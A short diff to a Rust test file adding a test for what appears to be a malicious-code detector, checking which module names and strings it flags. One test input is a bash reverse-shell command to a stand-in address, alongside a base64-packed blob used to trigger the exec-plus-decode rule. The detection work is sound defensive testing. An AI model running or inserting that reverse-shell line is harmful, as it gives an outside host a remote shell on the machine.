@@ -70,3 +70,18 @@ fn nesting_and_damage_end_quietly() {
         }
     }
 }
+
+#[test]
+fn modules_may_do_more_than_functions() {
+    let module = |names: &[&str], texts: &[&str]| Code {
+        name: "<module>".into(),
+        names: names.iter().map(|n| (*n).into()).collect(),
+        texts: texts.iter().map(|t| (*t).into()).collect(),
+        ..Code::default()
+    };
+    assert!(judge::judge_module(&module(&["os", "system", "open", "exec"], &["ls"])).is_none());
+    assert!(judge::judge_module(&module(&["os", "system"], &["bash -i >& /dev/tcp/192.0.2.1/1 0>&1"])).is_some());
+    let packed = "QUJD".repeat(40);
+    assert!(judge::judge_module(&module(&["exec", "b64decode"], &[&packed])).is_some());
+    assert!(judge::judge_module(&module(&["b64decode"], &[&packed])).is_none());
+}
